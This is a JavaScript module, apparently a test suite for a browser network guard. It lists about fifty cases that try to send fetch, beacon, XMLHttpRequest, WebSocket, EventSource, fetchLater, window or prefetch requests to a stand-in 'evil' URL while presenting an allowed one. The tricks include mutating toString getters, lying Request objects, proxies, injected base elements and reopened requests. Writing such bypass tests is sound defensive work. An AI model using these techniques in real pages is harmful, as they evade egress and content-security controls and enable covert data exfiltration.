// What answers differently the second time it is asked.
export default {
  "a URL whose string changes, in fetch": ({ own, evil }) => {
    let reads = 0;
    return fetch({ toString: () => (reads++ ? evil : own) }, { mode: "no-cors" }).then(() =>
      fetch({ toString: () => evil }, { mode: "no-cors" }),
    );
  },
  "a URL whose primitive changes, in fetch": ({ own, evil }) => {
    let reads = 0;
    const url = { [Symbol.toPrimitive]: () => (reads++ % 2 ? own : evil) };
    return fetch(url, { mode: "no-cors" });
  },
  "a URL object that lies": ({ own, evil }) => {
    const url = new URL(evil);
    Object.defineProperty(url, "href", { value: own });
    Object.defineProperty(url, "toString", { value: () => evil });
    return fetch(url, { mode: "no-cors" });
  },
  "a URL object that the init moves": ({ evil }) => {
    const url = new URL(`${evil}/moved`);
    return fetch(url, {
      get mode() {
        url.href = `${evil}/again`;
        return "no-cors";
      },
    });
  },
  "a URL in an array": ({ evil }) => fetch([evil], { mode: "no-cors" }),
  "a URL in an array whose join changes": ({ own, evil }) => {
    let reads = 0;
    const url = [own];
    url.join = () => (reads++ % 2 ? own : evil);
    return fetch(url, { mode: "no-cors" });
  },
  "a request that lies about its URL": ({ own, evil }) => {
    class Mine extends Request {
      get url() {
        return own;
      }
    }
    return fetch(new Mine(evil, { mode: "no-cors" }));
  },
  "a request with a URL of its own": ({ own, evil }) =>
    fetch(Object.defineProperty(new Request(evil, { mode: "no-cors" }), "url", { value: own })),
  "a request without its prototype": ({ own, evil }) =>
    fetch(Object.setPrototypeOf(new Request(evil, { mode: "no-cors" }), { url: own, toString: () => own })),
  "a request with a string of its own": ({ own, evil }) => {
    const request = new Request(evil, { mode: "no-cors" });
    request.toString = request[Symbol.toPrimitive] = () => own;
    return fetch(request);
  },
  "a request of another realm": ({ add, evil }) => {
    add("iframe");
    return fetch(new window[0].Request(evil, { mode: "no-cors" }));
  },
  "a request of another realm that lies": ({ add, own, evil }) => {
    add("iframe");
    const request = new window[0].Request(evil, { mode: "no-cors" });
    Object.setPrototypeOf(request, {
      __proto__: Request.prototype,
      get url() {
        return own;
      },
    });
    return fetch(request);
  },
  "a request in a proxy": ({ own, evil }) => {
    let reads = 0;
    const target = new Request(evil, { mode: "no-cors" });
    const asked = new Proxy(target, {
      get: (_, key) => (key === Symbol.toPrimitive ? () => (reads++ % 2 ? own : evil) : target[key]),
    });
    return fetch(asked, { mode: "no-cors" });
  },
  "a clone of a request": ({ evil }) => fetch(new Request(new Request(evil, { mode: "no-cors" })).clone()),
  "an init that is a proxy": ({ evil }) =>
    fetch(evil, new Proxy({ mode: "no-cors" }, { get: (target, key) => target[key], has: () => true })),
  "an init that keeps alive by a getter": ({ evil }) => {
    let reads = 0;
    return fetch(evil, {
      mode: "no-cors",
      method: "POST",
      body: "x",
      get keepalive() {
        return reads++ > 0;
      },
    });
  },
  "an init that makes a call of its own": ({ own, evil }) =>
    fetch(own, {
      get method() {
        fetch(evil, { mode: "no-cors" }).catch(() => {});
        return "GET";
      },
    }),
  "an init that throws and sends": ({ own, evil }) =>
    fetch(own, {
      get method() {
        navigator.sendBeacon(evil, "x");
        throw 1;
      },
    }),
  "a base that moves while a URL is read, in fetch": ({ evil }) =>
    fetch(
      {
        toString() {
          document.head.append(Object.assign(document.createElement("base"), { href: evil }));
          return "x";
        },
      },
      { mode: "no-cors" },
    ),
  "a base that moves while a URL is read, in a beacon": ({ evil }) =>
    navigator.sendBeacon(
      {
        toString() {
          document.head.append(Object.assign(document.createElement("base"), { href: evil }));
          return "x";
        },
      },
      "x",
    ),
  "a base that moves while a verb is read": ({ evil }) => {
    const x = new XMLHttpRequest();
    x.open(
      {
        toString() {
          document.head.append(Object.assign(document.createElement("base"), { href: evil }));
          return "GET";
        },
      },
      "/x",
    );
    x.send();
  },
  "a base that moves between open and send": ({ evil }) => {
    const x = new XMLHttpRequest();
    document.head.append(Object.assign(document.createElement("base"), { href: evil }));
    x.open("GET", "x");
    x.send();
  },
  "a base in the page's head moved by its Attr": ({ evil }) => {
    const base = document.createElement("base");
    base.setAttributeNode(Object.assign(document.createAttribute("href"), { value: evil }));
    document.head.prepend(base);
    return fetch("x", { mode: "no-cors" });
  },
  "a beacon whose URL changes": ({ own, evil }) => {
    let reads = 0;
    const url = { toString: () => (reads++ % 2 ? evil : own) };
    navigator.sendBeacon(url, "x");
    navigator.sendBeacon(url, "x");
    return navigator.sendBeacon(url, "x");
  },
  "a beacon whose body sends another": ({ own, evil }) =>
    navigator.sendBeacon(own, { toString: () => (navigator.sendBeacon(evil, "inner"), "x") }),
  "a request opened twice": ({ own, evil }) => {
    const x = new XMLHttpRequest();
    x.open("GET", own);
    x.open("GET", evil);
    x.send();
  },
  "a request opened again in its event": ({ own, evil }) => {
    const x = new XMLHttpRequest();
    let opened = 0;
    x.onreadystatechange = () => {
      if (x.readyState === 1 && opened++ === 0) x.open("GET", evil);
    };
    x.open("GET", own);
    x.send();
  },
  "a request opened while its URL is read": ({ evil }) => {
    const x = new XMLHttpRequest();
    x.open("GET", { toString: () => (x.open("GET", evil), evil) });
    x.send();
  },
  "a request whose verb changes its URL": ({ own, evil }) => {
    const x = new XMLHttpRequest();
    let url = own;
    x.open({ toString: () => ((url = evil), "GET") }, { toString: () => url });
    x.send();
  },
  "a request reused": async ({ own, evil }) => {
    const x = new XMLHttpRequest();
    x.open("GET", `${own}/idle.js`);
    await new Promise((resolve) => ((x.onload = resolve), x.send()));
    x.open("GET", evil);
    x.send();
  },
  "a synchronous request": ({ evil }) => {
    const x = new XMLHttpRequest();
    x.open("GET", evil, false);
    x.send();
  },
  "a request's open by a list that changes": ({ own, evil }) => {
    const x = new XMLHttpRequest();
    let reads = 0;
    const args = {
      length: 2,
      0: "GET",
      get 1() {
        return reads++ ? own : evil;
      },
    };
    Reflect.apply(XMLHttpRequest.prototype.open, x, args);
    x.send();
  },
  "a request's open by a list of odd length": ({ evil }) => {
    const x = new XMLHttpRequest();
    XMLHttpRequest.prototype.open.apply(x, { length: "2.9", 0: "GET", 1: evil, 2: true });
    x.send();
  },
  "a socket whose URL changes": ({ own, socket }) => {
    let reads = 0;
    void new WebSocket({ toString: () => (reads++ % 2 ? own.replace("http", "ws") : socket) });
  },
  "a socket whose protocols change the URL": ({ socket }) => {
    const url = new URL(socket);
    void new WebSocket(url, {
      *[Symbol.iterator]() {
        url.href = `${socket}/x`;
      },
    });
  },
  "a socket in an array": ({ socket }) => void new WebSocket([socket]),
  "an event source whose URL changes": ({ own, evil }) => {
    let reads = 0;
    void new EventSource({ [Symbol.toPrimitive]: () => (reads++ % 2 ? own : evil) });
  },
  "an event source whose options send": ({ own, evil }) =>
    void new EventSource(own, {
      get withCredentials() {
        navigator.sendBeacon(evil, "x");
        return false;
      },
    }),
  "a window whose URL changes": ({ own, evil }) => {
    let reads = 0;
    open({ toString: () => (reads++ % 2 ? own : evil) });
  },
  "a window whose name opens another": ({ own, evil }) =>
    void open(`${own}/plain`, { toString: () => (open(evil), "w") }),
  "a frame's source that changes": ({ add, evil }) => {
    let reads = 0;
    add("iframe").setAttribute("src", { toString: () => (reads++ ? "about:blank" : evil) });
  },
  "an attribute whose name changes": ({ evil }) => {
    let reads = 0;
    const l = document.createElement("link");
    l.setAttribute("href", evil);
    l.setAttribute({ toString: () => (reads++ % 2 ? "title" : "rel") }, "preconnect");
    l.setAttribute({ toString: () => (reads++ % 2 ? "rel" : "title") }, "preconnect");
    document.head.append(l);
  },
  "a rel that changes": ({ evil }) => {
    let reads = 0;
    const l = document.createElement("link");
    l.href = evil;
    l.rel = { toString: () => (reads++ ? "icon" : "preconnect") };
    document.head.append(l);
  },
  "a script's type that changes": ({ evil }) => {
    let reads = 0;
    const s = document.createElement("script");
    s.type = { toString: () => (reads++ ? "text/plain" : "speculationrules") };
    s.textContent = `{"prefetch":[{"source":"list","urls":["${evil}/"]}]}`;
    document.head.append(s);
  },
  "a location whose string changes": ({ own, evil }) => {
    let reads = 0;
    location.href = { toString: () => (reads++ ? own : evil) };
  },
  "fetchLater whose URL changes": ({ evil, own }) => {
    let reads = 0;
    const url = { toString: () => (reads++ % 2 ? own : evil) };
    fetchLater(url, { activateAfter: 0 });
  },
  "fetchLater whose options send": ({ evil, own }) =>
    void fetchLater(own, {
      get activateAfter() {
        fetchLater(evil, { activateAfter: 0 });
        return 0;
      },
    }),
  "a subclass of XMLHttpRequest": ({ own, evil }) => {
    class Mine extends XMLHttpRequest {
      open(verb, url) {
        return super.open(verb, url === own ? evil : url);
      }
    }
    const x = new Mine();
    x.open("GET", own);
    x.send();
  },
  "a subclass of WebSocket": ({ own, socket }) => {
    class Mine extends WebSocket {
      constructor(url) {
        super(url === own ? socket : url);
      }
    }
    void new Mine(own);
  },
  "a subclass whose prototype is asked for": ({ socket }) => {
    const Target = new Proxy(function () {}.bind(), {
      get: (target, key) => (key === "prototype" ? WebSocket.prototype : target[key]),
    });
    void Reflect.construct(WebSocket, [socket], Target);
  },
};
